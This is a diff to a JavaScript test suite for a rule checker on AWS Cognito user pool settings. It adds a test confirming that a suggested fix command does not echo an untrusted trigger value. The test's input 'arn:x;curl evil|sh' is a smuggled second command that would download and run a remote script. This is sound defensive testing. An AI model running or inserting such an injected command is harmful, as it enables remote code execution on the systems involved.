@@ -113,6 +113,14 @@ describe("the doctor's rules", () => {
     expect(find("unknown-setting", { pool: { Policies: {} } })).toEqual([]);
   });
 
+  it("put no text that is no function's ARN into a command", () => {
+    const pool = { Id: "eu-west-1_AbC123xyz" };
+    const trigger = "arn:x;curl evil|sh";
+    expect(find("invoke-permission", { pool, trigger, mayInvoke: "no" })).toEqual([
+      expect.objectContaining({ fix: expect.stringMatching(/ --function-arn ARN$/) }),
+    ]);
+  });
+
   it("take a custom domain for a domain", () => {
     const pool = { CustomDomain: "auth.example.com" };
     expect(find("no-domain", { pool, hostedDomain: true })).toEqual([]);
